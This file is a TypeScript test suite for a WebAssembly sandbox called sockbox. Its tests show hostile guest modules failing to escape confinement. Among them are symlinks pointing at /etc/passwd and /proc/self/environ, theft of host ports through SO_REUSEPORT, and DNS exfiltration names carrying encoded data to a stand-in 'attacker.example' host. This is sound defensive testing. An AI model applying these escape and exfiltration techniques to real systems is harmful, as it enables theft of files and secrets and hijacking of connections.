// The sandbox's holes, each tried by a hostile guest (test/guests/hostile/) against the
// real kernel on loopback, and each closed: the regression tests behind SECURITY.md.
//
//   files: symlinks out of a preopen, loops, dangling links, writes, caps (both
//          confinement modes: openat2 and the portable walk)
//   close: a lingering close (set or inherited) never blocks the host
//   ports: SO_REUSEPORT / UDP SO_REUSEADDR theft, [::] taking IPv4
//   memory: linear memory, output and files bounded (RSS measured in a child process)
//   kill: a guest that catches the kill still ends, in a worker and inline; the CLI
//   leaks: inode numbers per run; lookups outside the grant never reach a resolver;
//          borrowed privilege; sinks that fail; options copied and checked

import net from 'node:net';
import dgram from 'node:dgram';
import { spawn, spawnSync } from 'node:child_process';
import { monitorEventLoopDelay } from 'node:perf_hooks';
import { mkdtempSync, mkdirSync, writeFileSync, symlinkSync, readFileSync, statSync, existsSync, openSync, closeSync, ftruncateSync, writeSync, rmSync } from 'node:fs';
import { Writable } from 'node:stream';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { Sandbox, SandboxError, socket, constants, type SandboxOptions } from '../host/index.js';
import { Lines, launch } from './support/proc.js';
import { RecordingNative } from './support/recording-native.js';
import { C_GUEST } from './support/guest.js';

const HOSTILE = (name: string) => fileURLToPath(new URL(`./guests/hostile/${name}.wasm`, import.meta.url));
const wasm = (name: string) => readFileSync(HOSTILE(name));
const ROOT = fileURLToPath(new URL('..', import.meta.url));

/** A guest run whose output is watched line by line. */
function start(name: string, args: string[], options: SandboxOptions = {}) {
  const out = new Lines();
  const sandbox = new Sandbox({
    ...options,
    args: [name, ...args],
    stdout: (c) => out.feed(Buffer.from(c).toString('utf8')),
    stderr: (c) => out.feed(Buffer.from(c).toString('utf8')),
  });
  const done = sandbox.run(wasm(name));
  done.catch(() => {});
  return { sandbox, done, out, waitFor: (re: RegExp, ms = 10_000) => out.waitFor(re, ms, done) };
}

/** Runs a guest to its end: its exit code (or error code) and its output lines. */
async function runAll(name: string, args: string[], options: SandboxOptions = {}): Promise<{ code: number | string; lines: string[] }> {
  const r = start(name, args, options);
  let code: number | string;
  try {
    code = (await r.done).exitCode;
  } catch (e) {
    code = (e as SandboxError).code;
  }
  return { code, lines: r.out.lines() };
}

/** The largest gap between ticks of a 1 ms interval while `fn` runs: how long the event loop was held. */
async function loopLag<T>(fn: () => Promise<T>): Promise<{ value: T; lagMs: number }> {
  let last = performance.now();
  let worst = 0;
  const tick = setInterval(() => {
    const now = performance.now();
    worst = Math.max(worst, now - last);
    last = now;
  }, 1);
  const h = monitorEventLoopDelay({ resolution: 2 });
  h.enable();
  try {
    const value = await fn();
    return { value, lagMs: Math.max(worst, h.max / 1e6) };
  } finally {
    h.disable();
    clearInterval(tick);
  }
}

// ── files ──────────────────────────────────────────────────────────────────

describe.each(['openat2', 'walk'] as const)('preopens are live and confined (%s)', (mode) => {
  let dir: string;
  let pre: string;
  beforeAll(() => {
    process.env.SOCKBOX_CONFINE = mode;
    dir = mkdtempSync(join(tmpdir(), 'sockbox-holes-'));
    pre = join(dir, 'pre');
    mkdirSync(join(dir, 'outside'));
    mkdirSync(join(pre, 'sub'), { recursive: true });
    writeFileSync(join(dir, 'outside', 'secret.txt'), 'secret\n');
    writeFileSync(join(pre, 'hello.txt'), 'hello\n');
    symlinkSync('../outside/secret.txt', join(pre, 'up-file'));
    symlinkSync('../outside', join(pre, 'up-dir'));
    symlinkSync('/proc/self/environ', join(pre, 'environ'));
    symlinkSync('/etc/passwd', join(pre, 'abs'));
    symlinkSync('.', join(pre, 'a'));
    symlinkSync('.', join(pre, 'b'));
    symlinkSync('nowhere', join(pre, 'dangling'));
    symlinkSync('hello.txt', join(pre, 'good'));
    symlinkSync('sub/../hello.txt', join(pre, 'good2'));
    symlinkSync('../hello.txt', join(pre, 'sub', 'parent'));
    symlinkSync('loop2', join(pre, 'loop1'));
    symlinkSync('loop1', join(pre, 'loop2'));
  });
  afterAll(() => {
    delete process.env.SOCKBOX_CONFINE;
    rmSync(dir, { recursive: true, force: true });
  });

  test('symlinks out of the folder (relative, absolute, /proc) and `..` are NOTCAPABLE; links inside work; a loop is ELOOP; a dangling link fails only its own open', async () => {
    const { code, lines } = await runAll('fsprobe', [
      'read', '/data/up-file', 'list', '/data/up-dir', 'read', '/data/environ', 'read', '/data/abs',
      'read', '/data/../outside/secret.txt', 'stat', '/data/up-dir', 'read', '/data/dangling',
      'read', '/data/hello.txt', 'read', '/data/good', 'read', '/data/good2', 'read', '/data/sub/parent',
      'read', '/data/a/b/a/b/hello.txt', 'read', '/data/loop1',
    ], { preopens: { '/data': pre } });
    expect(code).toBe(0);
    expect(lines).toEqual([
      'read /data/up-file err ENOTCAPABLE',
      'list /data/up-dir err ENOTCAPABLE',
      'read /data/environ err ENOTCAPABLE',
      'read /data/abs err ENOTCAPABLE',
      'read /data/../outside/secret.txt err ENOTCAPABLE',
      'stat /data/up-dir err ENOTCAPABLE',
      'read /data/dangling err ENOENT',
      'read /data/hello.txt ok hello\\x0a',
      'read /data/good ok hello\\x0a',
      'read /data/good2 ok hello\\x0a',
      'read /data/sub/parent ok hello\\x0a',
      'read /data/a/b/a/b/hello.txt ok hello\\x0a',
      'read /data/loop1 err ELOOP',
    ]);
  });

  test('two links to `.` do not make anything loop: the guest walks the tree (bounded by its own limits) and the run ends', async () => {
    const started = performance.now();
    const { code, lines } = await runAll('fsprobe', ['walk', '/data', 'read', '/data/hello.txt'], { preopens: { '/data': pre } });
    expect(code).toBe(0);
    expect(lines[0]).toMatch(/^walk \/data ok entries=\d+ errors=\d+$/);
    expect(lines[1]).toBe('read /data/hello.txt ok hello\\x0a');
    expect(performance.now() - started).toBeLessThan(20_000);
  });

  test('writes go through to the host folder; a link the guest makes to /etc/passwd cannot be followed; readonly refuses every write', async () => {
    const { lines } = await runAll('fsprobe', [
      'write', '/data/new.txt', 'written by the guest', 'symlink', '/etc/passwd', '/data/evil', 'read', '/data/evil',
      'readlink', '/data/evil', 'mkdir', '/data/made', 'rename', '/data/new.txt', '/data/made/moved.txt',
    ], { preopens: { '/data': pre } });
    expect(lines).toEqual([
      'write /data/new.txt ok 20',
      'symlink /data/evil ok',
      'read /data/evil err ENOTCAPABLE',
      'readlink /data/evil ok /etc/passwd',
      'mkdir /data/made ok',
      'rename /data/new.txt ok',
    ]);
    expect(readFileSync(join(pre, 'made', 'moved.txt'), 'utf8')).toBe('written by the guest');
    const ro = await runAll('fsprobe', [
      'read', '/ro/hello.txt', 'write', '/ro/x.txt', 'x', 'append', '/ro/hello.txt', 'x', 'mkdir', '/ro/d',
      'unlink', '/ro/hello.txt', 'symlink', 'hello.txt', '/ro/l', 'rename', '/ro/hello.txt', '/ro/h2',
    ], { preopens: { '/ro': { path: pre, readonly: true } } });
    expect(ro.lines).toEqual([
      'read /ro/hello.txt ok hello\\x0a',
      'write /ro/x.txt err ENOTCAPABLE',
      'append /ro/hello.txt err ENOTCAPABLE',
      'mkdir /ro/d err ENOTCAPABLE',
      'unlink /ro/hello.txt err ENOTCAPABLE',
      'symlink /ro/l err ENOTCAPABLE',
      'rename /ro/hello.txt err ENOTCAPABLE',
    ]);
    expect(readFileSync(join(pre, 'hello.txt'), 'utf8')).toBe('hello\n');
    expect(existsSync(join(pre, 'x.txt'))).toBe(false);
  });

  test('a FIFO in the folder is not opened (a read would wait for a writer): NOTSUP at once', async () => {
    spawnSync('mkfifo', [join(pre, 'fifo')]);
    const t0 = performance.now();
    const { lines } = await runAll('fsprobe', ['read', '/data/fifo', 'read', '/data/hello.txt'], { preopens: { '/data': pre } });
    expect(lines).toEqual(['read /data/fifo err ENOTSUP', 'read /data/hello.txt ok hello\\x0a']);
    expect(performance.now() - t0).toBeLessThan(5000);
  });

  test('limits.openFiles: a guest that opens without closing gets EMFILE at the limit (the preopen counts)', async () => {
    const { lines } = await runAll('fsprobe', ['openmany', '/data/hello.txt', '100'], { preopens: { '/data': pre }, limits: { openFiles: 8 } });
    expect(lines).toEqual(['openmany /data/hello.txt 7 EMFILE']);
  });

  test('limits.fileBytes caps what the guest writes: EDQUOT at the cap, and the file on disk is no bigger', async () => {
    const { lines } = await runAll('fsprobe', ['fill', '/data/fill.bin', String(8 << 20)], {
      preopens: { '/data': pre }, limits: { fileBytes: 1 << 20 },
    });
    expect(lines).toEqual([`fill /data/fill.bin err EDQUOT after ${1 << 20}`]);
    expect(statSync(join(pre, 'fill.bin')).size).toBe(1 << 20);
  });
});

describe('preopens are not copied at start', () => {
  test('a 3 GiB sparse file in the folder: the run starts at once, its last bytes read through pread, host memory unmoved', () => {
    const dir = mkdtempSync(join(tmpdir(), 'sockbox-sparse-'));
    try {
      const fd = openSync(join(dir, 'big.bin'), 'w');
      ftruncateSync(fd, 3 * 1024 ** 3 - 8);
      writeSync(fd, 'the end!', 3 * 1024 ** 3 - 8, 'latin1');
      closeSync(fd);
      const r = childRun({ wasm: HOSTILE('fsprobe'), args: ['fsprobe', 'tail', '/data/big.bin', '8'], options: { preopens: { '/data': dir } } });
      expect(r.result).toEqual({ exitCode: 0 });
      expect(r.out).toBe(`tail /data/big.bin ok size=${3 * 1024 ** 3} the end!\n`);
      expect(r.ms).toBeLessThan(5000);
      expect(r.peakMiB - r.baseMiB).toBeLessThan(64);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});

// ── close ──────────────────────────────────────────────────────────────────

/** Runs test/support/scenarios/<file> in a fresh node process (20 s at most) and parses its JSON line. */
function scenario(file: string, args: string[]): { code: number | string; ms: number; lagMs: number; out: string } {
  const r = spawnSync(process.execPath, [join(ROOT, 'test/support/scenarios', file), ...args], { encoding: 'utf8', cwd: ROOT, timeout: 20_000 });
  if (r.error || r.status !== 0) throw new Error(`${file} ${args.join(' ')} did not finish in 20 s or failed (${r.error?.message ?? `exit ${r.status}`}): ${r.stderr}`);
  return JSON.parse(r.stdout) as { code: number | string; ms: number; lagMs: number; out: string };
}

/** A loopback TCP server whose connections never read: a peer's send queue fills. */
async function stalledServer(): Promise<{ port: number; conns: net.Socket[]; close(): Promise<void> }> {
  const conns: net.Socket[] = [];
  const server = net.createServer((c) => { c.pause(); conns.push(c); });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  return {
    port: (server.address() as net.AddressInfo).port,
    conns,
    close: () => { for (const c of conns) c.destroy(); return new Promise<void>((r) => server.close(() => r())); },
  };
}

describe('no close blocks the host (SO_LINGER set, or inherited through accept, with a full send queue)', () => {
  test('inherited from a listener: the guest\'s close() returns at once, kill() settles and the event loop never stalls (bounds far above the noise of a loaded machine, far below the hour a lingering close would block), and the peer still gets every byte and a FIN', async () => {
    const g = start('linger', ['inherit', 'close'], { net: { bind: ['127.0.0.1:0'] } });
    const [, port] = await g.waitFor(/^listening (\d+)$/);
    const peer = net.connect(Number(port), '127.0.0.1');
    peer.pause();
    const [, onoff, secs] = await g.waitFor(/^linger (\d+) (\d+)$/);
    expect([onoff, secs]).toEqual(['1', '3600']); // inherited by the accepted socket
    const [, full] = await g.waitFor(/^full (\d+)$/);
    await g.waitFor(/^closed$/); // close() of the lingering socket came back
    const { value: ms, lagMs } = await loopLag(async () => {
      const t0 = performance.now();
      g.sandbox.kill();
      await expect(g.done).rejects.toMatchObject({ code: 'ERR_SOCKBOX_KILLED' });
      return performance.now() - t0;
    });
    expect(ms).toBeLessThan(2000);
    expect(lagMs).toBeLessThan(1000);
    // Graceful: the queued data, then FIN (not a reset).
    let got = 0;
    peer.on('data', (d) => { got += d.length; });
    peer.resume();
    await new Promise<void>((resolve, reject) => { peer.on('end', resolve); peer.on('error', reject); });
    expect(got).toBe(Number(full));
    peer.destroy();
  });

  test('set directly, the guest exits with the socket open: the sandbox\'s close at exit returns at once', async () => {
    const srv = await stalledServer();
    try {
      const { value, lagMs } = await loopLag(async () => {
        const g = start('linger', ['direct', String(srv.port), 'exit'], { net: { connect: [`127.0.0.1:${srv.port}`], bind: ['127.0.0.1:0'] } });
        await g.waitFor(/^full \d+$/);
        const t0 = performance.now();
        const r = await g.done;
        return { r, ms: performance.now() - t0 };
      });
      expect(value.r.exitCode).toBe(0);
      expect(value.ms).toBeLessThan(2000);
      expect(lagMs).toBeLessThan(1000);
    } finally {
      await srv.close();
    }
  });

  test('the guest spins in pure wasm with the lingering socket open: the worker is terminated and the host\'s sweep of its fds never blocks the event loop (in a child process: a blocked thread shows as its time-out)', () => {
    const r = scenario('linger.mjs', ['worker-spin']);
    expect(r.code).toBe('ERR_SOCKBOX_KILLED');
    expect(r.ms).toBeLessThan(2000);
    expect(r.lagMs).toBeLessThan(1000);
  });

  test('inline: the guest exits with the lingering socket open and run() returns at once (in a child process)', () => {
    const r = scenario('linger.mjs', ['inline-exit']);
    expect(r.code).toBe(0);
    expect(r.out).toMatch(/^linger 1 3600\n/);
    expect(r.ms).toBeLessThan(2000);
  });
});

// ── ports ──────────────────────────────────────────────────────────────────

/** A host TCP service on 127.0.0.1:0 with SO_REUSEPORT (same uid as the guest), accepting without blocking. */
function hostReusePortService() {
  const s = socket(constants.AF_INET, constants.SOCK_STREAM);
  s.setsockopt(constants.SOL_SOCKET, constants.SO_REUSEPORT, 1);
  s.bind(['127.0.0.1', 0]);
  s.listen(128);
  s.setblocking(false);
  let accepted = 0;
  const drain = () => {
    for (;;) {
      try {
        const [c] = s.accept();
        c.close();
        accepted++;
      } catch {
        return;
      }
    }
  };
  return { port: s.getsockname()[1], accepted: () => { drain(); return accepted; }, close: () => s.close() };
}

/** Makes `n` connections to 127.0.0.1:port, one after another; resolves with how many connected. */
async function connectMany(port: number, n: number, host = '127.0.0.1'): Promise<number> {
  let ok = 0;
  for (let i = 0; i < n; i++) {
    ok += await new Promise<number>((resolve) => {
      const c = net.connect(port, host, () => { c.destroy(); resolve(1); });
      c.on('error', () => resolve(0));
    });
  }
  return ok;
}

describe('ports stay the host\'s', () => {
  test('SO_REUSEPORT on a granted port: refused, the bind fails, 20 of 20 connections reach the host service; granted, the same guest takes some (the attack is real)', async () => {
    const host = hostReusePortService();
    try {
      const g = start('steal', ['tcp', String(host.port), '3000'], { net: { bind: [`127.0.0.1:${host.port}`] } });
      await g.waitFor(/^stolen \d+$/);
      expect(g.out.lines()).toEqual(['setsockopt ENOTCAPABLE', 'bind EADDRINUSE', 'stolen 0']);
      expect(await connectMany(host.port, 20)).toBe(20);
      expect(host.accepted()).toBe(20);

      const granted = start('steal', ['tcp', String(host.port), '1500'], {
        net: { bind: [`127.0.0.1:${host.port}`] }, sockopts: { allowSet: ['SO_REUSEPORT'] },
      });
      await granted.waitFor(/^ready \d+$/);
      await connectMany(host.port, 20);
      const [, stolen] = await granted.waitFor(/^stolen (\d+)$/);
      expect(Number(stolen)).toBeGreaterThan(0);
      expect(host.accepted() - 20).toBe(20 - Number(stolen));
    } finally {
      host.close();
    }
  });

  test('SO_REUSEADDR on UDP: refused, the bind fails, every datagram reaches the host socket (Node dgram with reuseAddr: true)', async () => {
    const hostSock = dgram.createSocket({ type: 'udp4', reuseAddr: true });
    await new Promise<void>((r) => hostSock.bind(0, '127.0.0.1', r));
    const port = hostSock.address().port;
    let received = 0;
    let allIn!: () => void;
    const twenty = new Promise<void>((r) => { allIn = r; });
    hostSock.on('message', () => { if (++received === 20) allIn(); });
    try {
      const g = start('steal', ['udp', String(port), '500'], { net: { bind: [`127.0.0.1:${port}`] } });
      await g.waitFor(/^stolen \d+$/);
      expect(g.out.lines()).toEqual(['setsockopt ENOTCAPABLE', 'bind EADDRINUSE', 'stolen 0']);
      const sender = dgram.createSocket('udp4');
      for (let i = 0; i < 20; i++) await new Promise<void>((r) => sender.send('x', port, '127.0.0.1', () => r()));
      // Wait for the twentieth datagram itself; a datagram taken by the guest never comes,
      // and the test's timeout reports it.
      await twenty;
      sender.close();
      expect(received).toBe(20);
    } finally {
      hostSock.close();
    }
  });

  test('a [::] grant does not reach IPv4: IPV6_V6ONLY is forced on (the guest\'s V6ONLY=0 is undone at bind), IPv4 connects are refused, IPv6 ones accepted', async () => {
    const g = start('steal', ['v6', '0', '3000'], { net: { bind: ['[::]:0'] } });
    const [, port] = await g.waitFor(/^ready (\d+)$/);
    expect(g.out.lines().slice(0, 3)).toEqual(['setsockopt OK', 'bind OK', 'v6only 1']);
    expect(await connectMany(Number(port), 1, '127.0.0.1')).toBe(0);
    expect(await connectMany(Number(port), 1, '::1')).toBe(1);
    g.sandbox.kill();
    await g.done.catch(() => {});

    // With 0.0.0.0 granted too, dual stack is the guest's to choose.
    const both = start('steal', ['v6', '0', '3000'], { net: { bind: ['[::]:0', '0.0.0.0:0'] } });
    const [, port2] = await both.waitFor(/^ready (\d+)$/);
    expect(both.out.lines()[2]).toBe('v6only 0');
    expect(await connectMany(Number(port2), 1, '127.0.0.1')).toBe(1);
    both.sandbox.kill();
    await both.done.catch(() => {});
  });
});

// ── memory ─────────────────────────────────────────────────────────────────

interface ChildResult { result: { exitCode?: number; code?: string; message?: string }; out: string; err: string; outBytes: number; maxHeld: number; events: Record<string, number>; baseMiB: number; peakMiB: number; ms: number }

/** Runs a guest in a fresh node process (test/support/rss-child.mjs) and reads its peak RSS. */
function childRun(cfg: { wasm: string; args: string[]; options?: Record<string, unknown>; sink?: 'slow' | 'serial' | 'count'; events?: boolean }): ChildResult {
  const r = spawnSync(process.execPath, [join(ROOT, 'test/support/rss-child.mjs'), JSON.stringify(cfg)], { encoding: 'utf8', cwd: ROOT, timeout: 120_000 });
  if (r.status !== 0) throw new Error(`rss-child failed: ${r.stderr}`);
  return JSON.parse(r.stdout) as ChildResult;
}

describe('host memory stays bounded', () => {
  test('linear memory: a malloc loop gets NULL at limits.memoryBytes (64 MiB) and host RSS grows by no more', () => {
    const r = childRun({ wasm: HOSTILE('hog'), args: ['hog', 'malloc', '4'], options: { limits: { memoryBytes: 64 << 20 } } });
    expect(r.result).toEqual({ exitCode: 0 });
    const [, mib] = /^malloc null after (\d+) MiB\n$/.exec(r.out)!;
    expect(Number(mib)).toBeGreaterThan(48);
    expect(Number(mib)).toBeLessThanOrEqual(64);
    expect(r.peakMiB - r.baseMiB).toBeLessThan(64 + 32);
  });

  test('a module whose memory starts above the cap is refused before it starts', async () => {
    const err = await new Sandbox({ stdout: () => {} }).run(wasm('bigmem')).catch((e: SandboxError) => e);
    expect(err).toBeInstanceOf(SandboxError);
    expect((err as SandboxError).code).toBe('ERR_SOCKBOX_GUEST_INVALID');
    expect((err as SandboxError).message).toMatch(/starts at 536870912 bytes \(8192 pages\), over limits\.memoryBytes \(268435456\)/);
  });

  test('stdout with backpressure: 256 MiB printed to a sink that takes one 64 KiB chunk at a time, each a turn of the event loop later: every byte delivered, never more than 1 MiB (+ one chunk) held, host RSS grows by less than 128 MiB (garbage the GC collects, whatever the volume)', () => {
    const r = childRun({ wasm: HOSTILE('hog'), args: ['hog', 'stdout', String(256 << 20)], sink: 'serial', options: { limits: { outputBytes: 1024 ** 3 } } });
    expect(r.result).toEqual({ exitCode: 0 });
    expect(r.err).toBe(`stdout wrote ${256 << 20} errno 0\n`);
    expect(r.outBytes).toBe(256 << 20);
    expect(r.maxHeld).toBeLessThanOrEqual((1 << 20) + (64 << 10));
    expect(r.peakMiB - r.baseMiB).toBeLessThan(128);
  });

  test('events: a guest making 240,000 of them as fast as it can (refused connects) for an onEvent that falls behind waits for it: every event delivered, host RSS grows by less than 24 MiB (without the wait: more than 40)', () => {
    const r = childRun({ wasm: HOSTILE('hog'), args: ['hog', 'events', '80000'], events: true });
    expect(r.result).toEqual({ exitCode: 0 });
    expect(r.out).toBe('events 80000 refused 80000\n');
    expect(r.events).toEqual({ socket: 80000, refused: 80000, close: 80000, exit: 1 });
    expect(r.peakMiB - r.baseMiB).toBeLessThan(24);
  });

  test('limits.outputBytes caps the total: the guest\'s write past it is EDQUOT', async () => {
    const { lines } = await runAll('hog', ['stdout', String(4 << 20)], { limits: { outputBytes: 1 << 20 } });
    expect(lines.at(-1)).toMatch(new RegExp(`stdout wrote ${1 << 20} errno EDQUOT$`));
  });
});

// ── kill ───────────────────────────────────────────────────────────────────

describe('a kill always lands, whether or not the guest catches it', () => {
  for (const name of ['catch-loop', 'catch-spin']) {
    test(`worker: ${name} (catch_all around a blocking poll_oneoff) ends soon after kill() (within 2 s; uncaught, it would block for an hour)`, async () => {
      const g = start(name, []);
      await g.waitFor(/^ready$/);
      const t0 = performance.now();
      g.sandbox.kill();
      await expect(g.done).rejects.toMatchObject({ code: 'ERR_SOCKBOX_KILLED' });
      expect(performance.now() - t0).toBeLessThan(2000);
    });

    test(`inline: ${name}, killed from its own stdout sink, ends at once (in a child process: a kill that never lands shows as its time-out)`, () => {
      const r = scenario('catch-inline.mjs', [name]);
      expect(r.code).toBe('ERR_SOCKBOX_KILLED');
      expect(r.ms).toBeLessThan(1000);
    });
  }

  test('inline: timeoutMs ends a guest spinning after it caught the unwind (ERR_SOCKBOX_TIMEOUT)', async () => {
    const sandbox = new Sandbox({ worker: false, timeoutMs: 200, stdout: () => {} });
    const t0 = performance.now();
    // catch-spin blocks in poll for an hour: the timeout ends it there.
    await expect(sandbox.run(wasm('catch-spin'))).rejects.toMatchObject({ code: 'ERR_SOCKBOX_TIMEOUT' });
    expect(performance.now() - t0).toBeLessThan(1200);
  });

  test('worker: timeoutMs rejects with ERR_SOCKBOX_TIMEOUT', async () => {
    const sandbox = new Sandbox({ timeoutMs: 200, stdout: () => {} });
    await expect(sandbox.run(wasm('catch-spin'))).rejects.toMatchObject({ code: 'ERR_SOCKBOX_TIMEOUT' });
  });

  for (const [sig, code] of [['SIGINT', 130], ['SIGTERM', 143]] as const) {
    test(`CLI: ${sig} ends a guest that catches the kill (exit ${code})`, async () => {
      const p = launch(process.execPath, [join(ROOT, 'bin/sockbox.js'), 'run', HOSTILE('catch-spin')]);
      await p.waitFor(/^ready$/);
      const t0 = performance.now();
      p.child.kill(sig);
      expect(await p.exited).toBe(code);
      expect(performance.now() - t0).toBeLessThan(2000);
    });
  }

  test('CLI: --timeout ends it with exit 124 and one line on stderr', async () => {
    const p = launch(process.execPath, [join(ROOT, 'bin/sockbox.js'), 'run', HOSTILE('catch-loop'), '--timeout', '300']);
    expect(await p.exited).toBe(124);
    expect(p.stderr()).toBe('sockbox: guest ran out of time (timeoutMs)\n');
  });
});

// ── what is counted or shared ──────────────────────────────────────────────

describe('nothing is shared between guests', () => {
  test('inode numbers of stdio and of a file are the same in every run, whatever another guest did in the same worker before', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'sockbox-ino-'));
    try {
      writeFileSync(join(dir, 'f.txt'), 'f');
      const probe = () => runAll('fsprobe', ['inostd', 'ino', '/data/f.txt'], { preopens: { '/data': dir } });
      const first = await probe();
      // Another tenant opens and creates files in between (the same pooled worker).
      const args: string[] = [];
      for (let i = 0; i < 40; i++) args.push('write', `/d/x${i}`, 'x');
      await runAll('fsprobe', args, { preopens: { '/d': dir } });
      const second = await probe();
      expect(second.lines).toEqual(first.lines);
      expect(first.lines[0]).toBe('inostd 0 0 0');
      expect(first.lines[1]).toBe(`ino /data/f.txt ${statSync(join(dir, 'f.txt')).ino}`);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});

describe('name lookups: a name outside the grant never reaches a resolver', () => {
  /** sockguest `try lookup` inline over a recording native layer whose resolver knows `hosts`. */
  async function lookup(name: string, hosts: Record<string, string[]>): Promise<{ line: string; asked: string[] }> {
    const rec = new RecordingNative();
    for (const [n, a] of Object.entries(hosts)) rec.hosts.set(n, a);
    let out = '';
    const sb = new Sandbox({
      worker: false, native: rec, args: ['sockguest', 'try', 'lookup', '4', name, '80'],
      net: { lookup: ['*.allowed.test', 'localhost'], connect: ['127.0.0.1:*'] },
      stdout: (c) => { out += Buffer.from(c).toString(); },
    });
    await sb.run(C_GUEST);
    const asked = rec.calls.filter((c) => c.name === 'getaddrinfo').map((c) => String(c.args[0]));
    return { line: out.trim(), asked };
  }
  const hosts = { 'api.allowed.test': ['127.0.0.1'], 'far.allowed.test': ['10.0.0.1'], 'evil.example.com': ['127.0.0.1'] };

  test('a name outside the patterns: "no such name" (AINONAME, 84), and getaddrinfo is never called', async () => {
    const r = await lookup('evil.example.com', hosts);
    expect(r.line).toBe('try lookup errno=84');
    expect(r.asked).toEqual([]);
  });

  test('a name inside the patterns resolves; one whose answers all lie outside the connect grants gets the same answer as a name that does not exist', async () => {
    expect((await lookup('api.allowed.test', hosts)).line).toBe('try lookup errno=0 count=1');
    const outside = await lookup('far.allowed.test', hosts);
    const missing = await lookup('missing.allowed.test', hosts);
    expect(outside.line).toBe(missing.line);
    expect(outside.line).toBe('try lookup errno=84');
    expect(outside.asked).toEqual(['far.allowed.test']);
  });

  test('an invented name carrying data (exfiltration) is never sent: 100 lookups, 0 resolver calls', async () => {
    const rec = new RecordingNative();
    let out = '';
    const names = Array.from({ length: 100 }, (_, i) => `c2VjcmV0${i}.attacker.example`);
    for (const n of names) {
      const sb = new Sandbox({
        worker: false, native: rec, args: ['sockguest', 'try', 'lookup', '4', n, '80'],
        net: { lookup: ['*.allowed.test'], connect: ['127.0.0.1:*'] },
        stdout: (c) => { out += Buffer.from(c).toString(); },
      });
      await sb.run(C_GUEST);
    }
    expect(rec.calls.filter((c) => c.name === 'getaddrinfo')).toEqual([]);
    expect(out.trim().split('\n')).toEqual(names.map(() => 'try lookup errno=84'));
  });
});

describe('no borrowed privilege', () => {
  test('whatever the host\'s privileges (these tests run as root here), options that need them are NOTCAPABLE; TCP_CONGESTION only from tcp_allowed_congestion_control', async () => {
    // An algorithm outside the allowed list, whatever this machine allows (root may pick
    // any available one, and make the kernel load a module for one it lacks).
    const allowed = readFileSync('/proc/sys/net/ipv4/tcp_allowed_congestion_control', 'utf8').trim().split(/\s+/);
    const outside = ['cubic', 'htcp', 'vegas', 'westwood', 'illinois'].find((a) => !allowed.includes(a))!;
    const { code, lines } = await runAll('privileged', [outside]);
    expect(code).toBe(0);
    expect(lines).toEqual([
      `TCP_CONGESTION=${outside} ENOTCAPABLE`,
      'TCP_CONGESTION=reno OK',
      'SO_PRIORITY=7 ENOTCAPABLE',
      'SO_MARK=1 ENOTCAPABLE',
      'SO_BUSY_POLL=1000 ENOTCAPABLE',
      'IP_TRANSPARENT=1 ENOTCAPABLE',
      'SO_BINDTODEVICE=lo ENOTCAPABLE',
      'SO_DEBUG=1 ENOTCAPABLE',
      'SO_REUSEPORT=1 ENOTCAPABLE',
      'TCP_CONGESTION now reno',
    ]);
  });
});

// ── the host's own robustness ──────────────────────────────────────────────

describe('the host survives its own sinks and options', () => {
  test('an object sink whose write(chunk) takes no callback is done when it returns (or its promise settles): the guest is not stalled waiting for a callback', async () => {
    let sync = 0;
    let later = 0;
    const r1 = await new Sandbox({ args: ['hog', 'stdout', String(4 << 20)], stdout: { write: (c: Uint8Array) => { sync += c.length; return true; } }, stderr: () => {} }).run(wasm('hog'));
    expect(r1).toEqual({ exitCode: 0 });
    expect(sync).toBe(4 << 20);
    const r2 = await new Sandbox({ args: ['hog', 'stdout', String(2 << 20)], stdout: { write: async (c: Uint8Array) => { await new Promise((r) => setImmediate(r)); later += c.length; } }, stderr: () => {} }).run(wasm('hog'));
    expect(r2).toEqual({ exitCode: 0 });
    expect(later).toBe(2 << 20);
  });

  for (const worker of [true, false]) {
    test(`${worker ? 'worker' : 'inline'}: a stdout sink that throws rejects the run with ERR_SOCKBOX_OUTPUT; the process lives on`, async () => {
      const sb = new Sandbox({ worker, args: ['hog', 'stdout', '100000'], stdout: () => { throw new Error('disk full'); }, stderr: () => {} });
      const err = await sb.run(wasm('hog')).catch((e: unknown) => e);
      expect(err).toMatchObject({ code: 'ERR_SOCKBOX_OUTPUT' });
      expect((err as Error).message).toMatch(/disk full/);
      const again = await runAll('hog', ['stdin'], { worker });
      expect(again).toEqual({ code: 0, lines: ['stdin 0 bytes'] });
    });

    test(`${worker ? 'worker' : 'inline'}: a destroyed Writable as sink: ERR_SOCKBOX_OUTPUT, no uncaught 'error'`, async () => {
      // Destroyed, and no 'error' listener of its own: an unheard 'error' would crash the process.
      const w = new Writable({ write: (_c, _e, cb) => cb() });
      w.destroy();
      const sb = new Sandbox({ worker, args: ['hog', 'stdout', '1000'], stdout: w, stderr: () => {} });
      await expect(sb.run(wasm('hog'))).rejects.toMatchObject({ code: 'ERR_SOCKBOX_OUTPUT' });
    });
  }

  test('options are copied at construction: widening the caller\'s grant afterwards changes nothing', async () => {
    const srv = await stalledServer();
    try {
      const net: { connect: string[] } = { connect: [] };
      const sb = new Sandbox({ net, args: ['sockguest', 'try', 'connect', '4', '127.0.0.1', String(srv.port)], stdout: (c) => { out += Buffer.from(c).toString(); } });
      let out = '';
      net.connect.push(`127.0.0.1:${srv.port}`);
      await sb.run(C_GUEST);
      expect(out.trim()).toBe('try connect errno=76');
    } finally {
      await srv.close();
    }
  });

  test('an unknown option key is a TypeError naming it', () => {
    expect(() => new Sandbox({ timeout: 100 } as unknown as SandboxOptions)).toThrow(/unknown option 'timeout'/);
    expect(() => new Sandbox({ limits: { memory: 1 } } as unknown as SandboxOptions)).toThrow(/limits: unknown option 'memory'/);
  });
});

// The child process used above must exist (and be found from the repository root).
test('the RSS helper is present', () => {
  expect(existsSync(join(ROOT, 'test/support/rss-child.mjs'))).toBe(true);
  expect(typeof spawn).toBe('function');
});
